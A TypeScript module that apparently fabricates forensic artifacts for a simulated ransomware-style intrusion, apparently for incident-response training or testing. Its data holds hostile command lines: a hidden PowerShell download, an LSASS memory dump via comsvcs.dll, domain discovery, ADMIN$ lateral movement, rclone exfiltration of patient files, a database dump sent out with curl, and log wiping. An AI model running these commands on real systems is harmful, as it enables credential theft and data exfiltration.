import * as logs from './logs.ts'
import * as linux from './linux.ts'
import {
  at,
  databaseServer,
  domainController,
  fileServer,
  patientZero,
  secondStation,
  story,
  webServer,
} from './story.ts'
import * as win from './windows.ts'
import type { Making, Row } from './windows.ts'

/** What the intruder left in each source of one Windows host. */
export interface Planted {
  processes: win.Process[]
  sockets: Row[]
  names: Row[]
  tasks: Row[]
  services: Row[]
  prefetch: Row[]
  files: Row[]
  security: logs.Event[]
  sysmon: logs.Event[]
}

const nothing = (): Planted => ({
  processes: [],
  sockets: [],
  names: [],
  tasks: [],
  services: [],
  prefetch: [],
  files: [],
  security: [],
  sysmon: [],
})

const rundll = 'C:\\Windows\\System32\\rundll32.exe'
const shell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const word = 'C:\\Program Files\\Office\\WINWORD.EXE'
const [wordPid, shellPid, loaderPid] = [6104, 6990, 7332]
const addressOf = { [patientZero]: '192.0.2.26', [secondStation]: '192.0.2.31' }

const loader = (username: string, started: number, ppid: number): win.Process => ({
  pid: loaderPid,
  ppid,
  path: rundll,
  commandLine: `rundll32.exe ${story.dll},Start`,
  username,
  started,
  trusted: true,
})

/** The loader runs, stays and calls home: the same on every workstation that it reached. */
function implant(making: Making, started: number, ppid: number): Planted {
  const process = loader(win.nameOf(making), started, ppid)
  const { ip, name } = story.loader
  const taskTime = started + 120_000
  return {
    ...nothing(),
    processes: [process],
    sockets: [
      win.socketRow(making, { pid: loaderPid, name: 'rundll32.exe', remote: ip, port: 443, at: making.now - 95_000 }),
    ],
    names: [win.dnsRow(name, ip, 60)],
    tasks: [win.taskRow(story.task, rundll, `${story.dll},Start`, taskTime, making.host.sid)],
    prefetch: [win.prefetchRow(rundll, [making.now - 3_600_000, taskTime, started], 61)],
    files: [win.fileRow(120_411, story.dll, 318_976, started - 30_000)],
    sysmon: [
      logs.lookUp(started + 2000, process, name, ip),
      ...Array.from({ length: 24 }, (_, i) => logs.connection(making, started + 5000 + i * 3_600_000, process, ip)),
    ],
  }
}

function onPatientZero(making: Making): Planted {
  const { now, host } = making
  const user = win.nameOf(making)
  const planted = implant(making, at(now, 'loaded'), shellPid)
  const mail = `C:\\Users\\${host.user}\\Downloads\\${story.mail}`
  const numberOf: Record<string, number> = {
    [win.outlook]: win.pids.outlook,
    [word]: wordPid,
    [shell]: shellPid,
    [rundll]: loaderPid,
  }
  const start = (step: Parameters<typeof at>[1], pid: number, path: string, commandLine: string, parent: string) =>
    logs.processStart({ at: at(now, step), pid, ppid: numberOf[parent]!, path, commandLine, parent, user })
  const fetch = `powershell -w hidden -c "iwr http://${story.loader.name}/u/a.dat -OutFile ${story.dll}"`
  const open = `"${word}" /n "${mail}"`
  const dump = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 ${story.dump} full`
  const opened = { username: user, trusted: true, started: at(now, 'opened') }
  planted.processes.push(
    { ...opened, pid: wordPid, ppid: win.pids.outlook, path: word, commandLine: open },
    { ...opened, pid: shellPid, ppid: wordPid, path: shell, commandLine: fetch, started: at(now, 'download') },
  )
  planted.files.push(
    win.fileRow(120_390, mail, 88_213, at(now, 'opened', -20)),
    win.fileRow(120_502, story.dump, 61_204_480, at(now, 'dump', 3)),
  )
  planted.prefetch.push(win.prefetchRow(shell, [at(now, 'download')], 2))
  planted.sysmon.push(
    start('opened', wordPid, word, open, win.outlook),
    start('download', shellPid, shell, fetch, word),
    start('loaded', loaderPid, rundll, `rundll32.exe ${story.dll},Start`, shell),
    start('discovery', 7410, 'C:\\Windows\\System32\\net.exe', 'net group "Domain Admins" /domain', rundll),
    start('discovery', 7418, 'C:\\Windows\\System32\\nltest.exe', 'nltest /dclist:', rundll),
    start('dump', 7544, rundll, dump, rundll),
    start(
      'lateral',
      7602,
      'C:\\Windows\\System32\\net.exe',
      `net use \\\\${fileServer}\\ADMIN$ /user:${story.account}`,
      rundll,
    ),
  )
  return planted
}

function onFileServer(making: Making): Planted {
  const { now, host } = making
  const planted = nothing()
  const account = `${host.tenant.netbios}\\${story.account}`
  const copy = `${story.rclone} copy D:\\Shares\\Patients store:nwc --transfers 8`
  const rclone: win.Process = {
    pid: 8820,
    ppid: 8104,
    path: story.rclone,
    commandLine: copy,
    username: account,
    started: at(now, 'exfil'),
    trusted: false,
  }
  const service = {
    ...rclone,
    pid: 8104,
    ppid: win.pids.services,
    path: story.serviceExe,
    commandLine: story.serviceExe,
    started: at(now, 'service'),
  }
  const { ip, name } = story.store
  planted.processes.push(service, rclone)
  planted.sockets.push(
    win.socketRow(making, { pid: 8820, name: 'rclone.exe', remote: ip, port: 443, at: now - 60_000 }),
  )
  planted.names.push(win.dnsRow(name, ip, 300))
  planted.services.push(
    win.serviceRow(story.service, story.serviceExe, { Pid: 8104, Created: win.iso(at(now, 'service')) }),
  )
  planted.prefetch.push(win.prefetchRow(story.rclone, [at(now, 'exfil')], 3))
  planted.files.push(
    win.fileRow(130_010, story.serviceExe, 73_216, at(now, 'service', -4)),
    win.fileRow(130_044, story.rclone, 48_211_968, at(now, 'collect')),
    win.fileRow(130_051, 'C:\\PerfLogs\\patients.7z', 913_204_224, at(now, 'collect', 900)),
  )
  planted.security.push(
    logs.logon(making, { at: at(now, 'lateral'), user: story.account, from: addressOf[patientZero]!, type: 3 }),
  )
  const start = { at: at(now, 'exfil'), ppid: 8104, parent: story.serviceExe, user: account }
  planted.sysmon.push(
    logs.processStart({ ...start, pid: 8820, path: story.rclone, commandLine: copy }),
    logs.lookUp(at(now, 'exfil', 1), rclone, name, ip),
    logs.connection(making, at(now, 'exfil', 2), rclone, ip),
  )
  return planted
}

function onDomainController(making: Making): Planted {
  const from = addressOf[patientZero]!
  const failed = Array.from({ length: 14 }, (_, i) =>
    logs.logon(making, { at: at(making.now, 'failed', i * 7), user: story.account, from, type: 3, failed: true }),
  )
  const opened = logs.logon(making, { at: at(making.now, 'failed', 105), user: story.account, from, type: 3 })
  return { ...nothing(), security: [...failed, opened] }
}

export function plantedOnWindows(making: Making): Planted {
  const { host, now } = making
  if (host.name === patientZero) return onPatientZero(making)
  if (host.name === fileServer) return onFileServer(making)
  if (host.name === domainController) return onDomainController(making)
  if (host.name !== secondStation) return nothing()
  const planted = implant(making, at(now, 'second'), win.pids.explorer)
  planted.security.push(
    logs.logon(making, { at: at(now, 'second', -40), user: story.account, from: addressOf[patientZero]!, type: 10 }),
  )
  return planted
}

/** Rows by source, for the Linux hosts of the second, smaller intrusion. */
export function plantedOnLinux(making: Making): Record<string, Row[]> {
  const { host, now } = making
  if (host.name !== webServer && host.name !== databaseServer) return {}
  const here = host.name === webServer
  const { ip } = story.loader
  const started = at(now, here ? 'miner' : 'hop', here ? 0 : 60)
  const from = here ? ip : '198.51.100.81'
  const lines = here
    ? ['id; uname -a', story.fetch, `ssh root@${databaseServer}`, 'rm -f /var/log/wtmp']
    : ['pg_dumpall > /tmp/.d.sql', story.fetch, `curl -T /tmp/.d.sql http://${story.loader.name}/in`]
  return {
    'Linux.Sys.Pslist': [
      linux.processRow({
        pid: 4410,
        path: story.miner,
        commandLine: '[kworkerd]',
        user: here ? 'www-data' : 'root',
        started,
      }),
    ],
    'Linux.Network.Netstat/TCP4': [linux.socketRow(making, 4410, story.miner, ip, 443)],
    'Linux.Sys.Crontab/CronTabs': [linux.cronRow('*/5', '*', story.fetch, '/etc/cron.d/kworker-sync')],
    'Linux.Ssh.AuthorizedKeys': [linux.keyRow('/root', story.key, story.keyComment)],
    'Linux.Sys.BashHistory': lines.map((line) => linux.historyRow(line)),
    'Linux.Syslog.SSHLogin': [linux.loginRow(making, { at: started + 90_000, user: 'root', from })],
    'Linux.Search.FileFinder': here
      ? [{ OSPath: story.webShell, Size: 1187, MTime: win.iso(at(now, 'webShell')), IsDir: false, Keywords: null }]
      : [],
  }
}
